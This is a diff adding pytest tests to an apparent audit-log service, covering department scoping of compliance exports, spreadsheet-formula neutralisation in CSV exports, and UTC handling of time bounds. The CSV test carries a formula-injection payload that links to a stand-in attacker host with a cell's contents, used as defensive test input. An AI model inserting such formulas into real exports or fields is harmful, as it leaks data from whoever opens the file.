@@ -9,6 +9,7 @@ import json
 import uuid
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
+from datetime import UTC, timedelta
 
 import pytest
 from fastapi.testclient import TestClient
@@ -100,6 +101,74 @@ def test_export_is_scoped_to_compliance_departments_and_audited(client: TestClie
     exports, _ = _export(client, scene["officer_token"], user=scene["officer"], event_type="export")
     assert len(exports) >= 2 and exports[0]["decision"] == "admin"
     assert exports[-1]["details"]["format"] == "jsonl"
+
+
+def test_an_answered_event_goes_only_to_the_departments_it_searched(client: TestClient, scene: dict[str, str],
+                                                                     issue_token: Callable[..., str]) -> None:
+    """The departments a query asks for are the caller's to choose: naming another department used to put an
+    answered event (its masked question, its documents) into that department's compliance export. An attempt that
+    searched nothing still goes to the departments it asked for."""
+    officer = f"officer2-{scene['other']}"
+    response = client.post("/v1/admin/role-assignments", headers=auth(scene["admin"]),
+                           json={"subject": officer, "role": "compliance", "department": scene["other"]})
+    assert response.status_code == 201, response.text
+    asked = client.post("/v1/query", headers=auth(scene["reader_token"]),
+                        json={"question": "How many weeks of parental leave?",
+                              "departments": [scene["dept"], scene["other"]]})
+    assert asked.status_code == 200 and asked.json()["citations"], asked.text
+    intruder = f"intruder-{scene['other']}"
+    attempt = client.post("/v1/query", headers=auth(issue_token(intruder)),
+                          json={"question": "What is on the payroll?", "departments": [scene["other"]]})
+    assert attempt.status_code == 200 and attempt.json()["refused"]
+    rows, _ = _export(client, issue_token(officer), event_type="retrieval")
+    assert {row["subject"] for row in rows} == {intruder}
+    assert rows[0]["departments_searched"] == [] and rows[0]["departments_requested"] == [scene["other"]]
+    assert not _export(client, issue_token(officer), event_type="retrieval", user=scene["reader"])[0]
+    own, _ = _export(client, scene["officer_token"], user=scene["reader"], department=scene["dept"])
+    assert any(row["departments_requested"] == sorted([scene["dept"], scene["other"]]) for row in own)
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(client: TestClient, scene: dict[str, str],
+                                                     issue_token: Callable[..., str]) -> None:
+    """A caller's purpose and an IdP's subject reach the CSV export: a cell starting with = + - @ runs as a formula
+    when a compliance officer opens the file in a spreadsheet."""
+    formula, stranger = '=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)"
+    for token, purpose in ((scene["reader_token"], formula), (issue_token(stranger), None)):
+        asked = client.post("/v1/query", headers=auth(token),
+                            json={"question": "How many weeks of parental leave?", "purpose": purpose,
+                                  "departments": [scene["dept"]]})
+        assert asked.status_code == 200, asked.text
+    cells = []
+    for subject in (scene["reader"], stranger):
+        response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
+                              params={"format": "csv", "user": subject})
+        cells += [cell for row in list(csv.DictReader(io.StringIO(response.text)))[:-1] for cell in row.values()]
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
+    assert "'" + formula in cells and "'" + stranger in cells
+
+
+def test_a_window_bound_without_a_zone_is_utc_whatever_the_database_session_zone(
+        scene: dict[str, str], settings) -> None:  # type: ignore[no-untyped-def]
+    """A naive bound used to go to PostgreSQL naive, read in the session's time zone (here New York, five hours
+    behind) while the manifest labelled it UTC: the reader's event, a minute after the bound, was left out."""
+    from sqlalchemy import create_engine
+    from sqlalchemy.orm import Session
+
+    from audit import repository
+    from audit.schemas import ExportFilters, utc_bound
+
+    engine = create_engine(settings.resolved_database_url, connect_args={"options": "-c timezone=America/New_York"})
+    try:
+        with Session(engine) as session:
+            newest = repository.max_event_id(session)
+            events = list(repository.iter_events(session, filters=ExportFilters(subject=scene["reader"]),
+                                                 through_id=newest))
+            bound = (events[-1].created_at.astimezone(UTC) - timedelta(minutes=1)).replace(tzinfo=None)
+            window = ExportFilters(subject=scene["reader"], since=utc_bound(bound))
+            kept = list(repository.iter_events(session, filters=window, through_id=newest))
+    finally:
+        engine.dispose()
+    assert events[-1].id in {event.id for event in kept}
 
 
 def test_global_compliance_is_configured_not_default(client: TestClient, scene: dict[str, str],
